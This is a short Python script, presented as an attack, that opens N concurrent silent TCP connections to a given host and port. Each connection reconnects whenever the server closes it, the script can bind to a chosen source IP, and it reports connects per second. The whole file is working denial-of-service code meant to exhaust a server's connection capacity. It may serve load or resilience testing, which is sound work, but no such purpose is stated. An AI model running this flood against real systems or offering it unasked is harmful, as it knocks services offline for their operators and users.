"""A flood of silent sockets: N tasks, each keeps one connection to the server open, sends
nothing, and opens another as soon as the server closes it.
Usage: attack.py HOST:PORT N SECONDS [SOURCE_IP]. Prints connects/s at the end."""
import asyncio, collections, sys

host, port = sys.argv[1].rsplit(":", 1)
N, DUR = int(sys.argv[2]), float(sys.argv[3])
SRC = sys.argv[4] if len(sys.argv) > 4 else None
stats = collections.Counter()

async def silent(end):
    loop = asyncio.get_running_loop()
    while loop.time() < end:
        try:
            r, w = await asyncio.open_connection(host, int(port), local_addr=(SRC, 0) if SRC else None)
            stats["connects"] += 1
            try:
                await asyncio.wait_for(r.read(1), timeout=max(0.1, end - loop.time()))
            except Exception:
                pass
            w.close()
        except Exception as e:
            stats["connect " + type(e).__name__] += 1
            await asyncio.sleep(0.01)

async def main():
    end = asyncio.get_running_loop().time() + DUR
    await asyncio.gather(*[silent(end) for _ in range(N)])

asyncio.run(main())
print("attack", dict(stats), f"connects/s={stats['connects'] / DUR:.0f}", flush=True)
